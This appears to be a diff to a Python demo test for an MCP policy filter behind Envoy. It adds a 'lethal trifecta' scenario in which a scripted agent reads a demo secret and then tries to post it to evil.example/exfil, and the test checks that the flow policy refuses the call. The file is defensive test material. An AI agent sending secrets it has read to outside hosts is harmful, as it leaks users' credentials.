@@ -15,6 +15,14 @@ them with the official MCP Python SDK client:
   8. the approver approves it             - through the service's JSON API (what the web page does)
   9. start_vm, the identical call again   - now it runs, once
 
+Then the lethal trifecta (demo/trifecta-policy.json, a flow: no outbound call for 10 minutes after a
+secret was read), against the demo server's `--trifecta` tools behind a second Envoy:
+
+ 10. http_post, before any secret        - allowed
+ 11. read_secret                         - allowed; the result marks the grant `secret`
+ 12. http_post carrying the secret       - refused: flow_denied, naming the flow and the mark
+ 13. http_post as a second grant         - still allowed: marks are per grant
+
 Exits 0 only if every step matched; 1 otherwise; 2 if the filter or mcp-approvals is not built.
 Environment: MCP_POLICY_WASM (default target/wasm32-wasip1/release/mcp_policy_filter.wasm),
 MCP_APPROVALS_BIN (default target/release/mcp-approvals), APPROVER_TOKEN (default demo-approver-token).
@@ -25,6 +33,7 @@ from __future__ import annotations
 import os
 import shutil
 import sys
+from pathlib import Path
 
 import anyio
 from mcp import MCPError
@@ -43,7 +52,8 @@ LIMIT = 10
 START = {"node": "pve2", "vmid": 200}
 APPROVER = "demo"
 APPROVER_TOKEN = os.environ.get("APPROVER_TOKEN") or "demo-approver-token"
-STEPS = 9
+STEPS = 13
+TRIFECTA_POLICY = Path(__file__).resolve().parent.parent / "demo" / "trifecta-policy.json"
 
 
 class Steps:
@@ -119,6 +129,36 @@ async def agent_session(url: str, svc: ha.Approvals, steps: Steps) -> None:
                     f"{started['node']}/{started['vmid']} {started['name']} is {started['status']}")
 
 
+def text_of(result) -> str:
+    """The single text block of a successful tool result."""
+    if result.is_error:
+        raise AssertionError(f"tool returned an error result: {result.content!r}")
+    return result.content[0].text
+
+
+async def trifecta_session(url: str, steps: Steps) -> None:
+    """The lethal trifecta: read a secret, then try to send it out."""
+    async with open_session(url, "agent-carol") as carol:
+        sent = text_of(await carol.call_tool("http_post", {"url": "https://example.com/hook", "body": "hello"}))
+        steps.check("http_post before any secret is allowed", sent.startswith("posted 5 bytes"), sent)
+        secret = text_of(await carol.call_tool("read_secret", {"name": "db_password"}))
+        steps.check("read_secret is allowed, and marks the grant 'secret'", "db_password=" in secret, secret)
+        try:
+            result = await carol.call_tool("http_post", {"url": "https://evil.example/exfil", "body": secret})
+            steps.check("http_post with the secret is refused (lethal trifecta)", False,
+                        f"NOT refused: {result.content!r}")
+        except MCPError as e:
+            data = e.error.data or {}
+            ok = e.error.code == -31014 and data.get("kind") == "flow_denied"
+            steps.check("http_post with the secret is refused (lethal trifecta)", ok,
+                        f"refused: {e.error.code} {e.error.message}\n"
+                        f"       flow '{data.get('flow')}', mark '{data.get('mark')}', "
+                        f"lifts in {data.get('retry_after_seconds')} s")
+    async with open_session(url, "agent-dave") as dave:
+        sent = text_of(await dave.call_tool("http_post", {"url": "https://example.com/hook", "body": "hi"}))
+        steps.check("http_post as a second grant (agent-dave) is still allowed", sent.startswith("posted"), sent)
+
+
 def describe(exc: BaseException) -> str:
     """The innermost exceptions of (nested) exception groups, as `Type: message` lines."""
     if isinstance(exc, BaseExceptionGroup):
@@ -126,9 +166,14 @@ def describe(exc: BaseException) -> str:
     return f"{type(exc).__name__}: {exc}" if str(exc) else repr(exc)
 
 
-async def bounded(url: str, svc: ha.Approvals, steps: Steps) -> None:
+async def bounded(url: str, svc: ha.Approvals, steps: Steps, trifecta_url: str) -> None:
     with anyio.fail_after(60):
         await agent_session(url, svc, steps)
+    if len(steps.results) == 9:
+        print("\nThe lethal trifecta: a flow (demo/trifecta-policy.json) denies outbound tools after a secret "
+              f"was read ({trifecta_url}):", flush=True)
+        with anyio.fail_after(30):
+            await trifecta_session(trifecta_url, steps)
 
 
 def main() -> int:
@@ -148,11 +193,13 @@ def main() -> int:
         svc = ha.approvals(stack, approvers={APPROVER: APPROVER_TOKEN})
         _, port = stack.demo_server(json_response=False)
         envoy = stack.envoy(POLICY_JSON.read_text(encoding="utf-8"), port, approvals_port=svc.check_port)
+        _, trifecta_port = stack.demo_server(json_response=False, trifecta=True)
+        trifecta = stack.envoy(TRIFECTA_POLICY.read_text(encoding="utf-8"), trifecta_port, name="envoy-trifecta")
         print(f"demo server 127.0.0.1:{port} <- Envoy {envoy.mcp_url} (policy envoy/policy.json)\n"
               f"approvals {svc.url} (approver '{APPROVER}', token '{APPROVER_TOKEN}')\n"
               f"logs in {stack.log_dir} (removed if every step matches)\n", flush=True)
         try:
-            anyio.run(bounded, envoy.mcp_url, svc, steps)
+            anyio.run(bounded, envoy.mcp_url, svc, steps, trifecta.mcp_url)
         except Exception as e:  # a step that blew up instead of matching
             steps.check("session ran to the end", False, describe(e))
     ok = steps.all_ok and len(steps.results) == STEPS
